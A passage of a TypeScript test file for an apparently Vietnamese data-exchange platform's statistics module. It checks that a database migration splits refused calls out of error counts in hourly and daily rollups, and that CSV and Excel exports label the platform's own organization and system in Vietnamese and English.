    test('migration 0038 splits rollups computed before it where the raw records are kept; archived hours stay', async () => {
      const db = h.store.db as unknown as Kysely<unknown>;
      // The whole (Vietnam) day rolled up, so its daily rollup exists too.
      await runRollups(h.store, Date.parse('2026-10-06T00:00:00+07:00') + 10 * 60_000);
      const archivedHour = new Date(H1 - 30 * DAY).toISOString();
      // Rollups as they were before 0038: refusals inside `errors`, `refused` 0; and an hour whose records are gone.
      await sql`UPDATE transaction_rollups SET errors = errors + refused, refused = 0`.execute(db);
      await sql`UPDATE transaction_rollups_daily SET errors = errors + refused, refused = 0`.execute(db);
      await sql`INSERT INTO transaction_rollups (hour, consumer_system_id, provider_system_id, service_id,
          version_id, environment, leg, status_class, kind, count, errors, request_bytes, response_bytes,
          duration_ms_sum, duration_ms_max, latency_buckets, computed_at)
        VALUES (${archivedHour}::timestamptz, 'sys_old', 'sys_old_p', ${svcId}, '', 'production', 'sync', '4xx',
          'service_call', 5, 5, 0, 0, 5, 1, '{5}'::bigint[], now())`.execute(db);
      const stale = await statistics(h.store, period(H1, H2));
      assert.equal(stale.totals.errors, 8, 'before the backfill, refusals counted as errors');
      const file = readFileSync(
        new URL('../src/store/migrations/0038_rollups_refused.sql', import.meta.url),
        'utf8',
      );
      const statements = file
        .split('\n')
        .filter((l) => !l.startsWith('--'))
        .join('\n')
        .split(';')
        .map((t) => t.trim())
        .filter((t) => t.startsWith('UPDATE'));
      assert.equal(statements.length, 2);
      for (const t of statements) await sql.raw(t).execute(db);
      const fixed = await statistics(h.store, period(H1, H2));
      assert.deepEqual([fixed.totals.calls, fixed.totals.refused, fixed.totals.errors], [12, 6, 2]);
      // Whole days come from the daily rollups: their errors and refusals follow the hours.
      const day = Date.parse('2026-10-05T00:00:00+07:00');
      const daily = await statistics(h.store, period(day, day + DAY));
      assert.deepEqual([daily.totals.calls, daily.totals.refused, daily.totals.errors], [24, 12, 4]);
      const old = await statistics(
        h.store,
        period(Date.parse(archivedHour), Date.parse(archivedHour) + HOUR),
      );
      assert.deepEqual([old.totals.refused, old.totals.errors], [0, 5], 'no records to split: as it was');
    });

    test("files name the platform's own parties in both languages, not only their stored Vietnamese name", async () => {
      // The provider of the shared category lists, as the platform makes it (Vietnamese names stored), and a call
      // to it. (The sandbox tester, the other platform party, is never counted: its tries are no customer's calls.)
      const platformOrg = await h.registry.createOrganization(
        {
          code: PLATFORM_CATEGORY_PROVIDER.organizationCode,
          name: PLATFORM_CATEGORY_PROVIDER.organizationName.vi,
        },
        't',
      );
      const lists = await h.registry.createSystem(
        {
          organizationId: platformOrg.id,
          name: PLATFORM_CATEGORY_PROVIDER.systemName.vi,
          isProvider: true,
          isConsumer: false,
        },
        't',
      );
      const H3 = H1 + 3 * DAY;
      await insertTransactions(h.store, [
        callRecord(H3, {
          consumerSystemId: quen,
          consumerOrgCode: '000.00.40.H01',
          providerSystemId: lists.id,
          providerOrgCode: PLATFORM_CATEGORY_PROVIDER.organizationCode,
          serviceId: svcId,
          serviceContext: 'dmdc',
        }),
      ]);
      const org = PLATFORM_CATEGORY_PROVIDER.organizationName;
      const sys = PLATFORM_CATEGORY_PROVIDER.systemName;
      const s = await statistics(h.store, {
        ...period(H3, H3 + HOUR),
        groupBy: ['providerOrganization', 'providerSystem', 'consumerOrganization'],
      });
      const orgLabel = `${PLATFORM_CATEGORY_PROVIDER.organizationCode} — ${org.vi} / ${org.en}`;
      const sysLabel = `${sys.vi} / ${sys.en} (${lists.id})`;
      // An agency's own name is written as it is registered.
      const agencyLabel = '000.00.40.H01 — Sở TT&TT';
      assert.deepEqual(
        s.rows.map((r) => [
          r.label.providerOrganization,
          r.label.providerSystem,
          r.label.consumerOrganization,
        ]),
        [[orgLabel, sysLabel, agencyLabel]],
      );
      const cells = parse(statisticsCsv(s), { bom: true }) as string[][];
      assert.deepEqual(cells[1]!.slice(0, 3), [orgLabel, sysLabel, agencyLabel]);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load((await statisticsXlsx(s)) as never);
      const row = book.worksheets[0]!.getRow(5);
      assert.deepEqual(
        [row.getCell(1).value, row.getCell(2).value, row.getCell(3).value],
        [orgLabel, sysLabel, agencyLabel],
      );
    });
  });
}
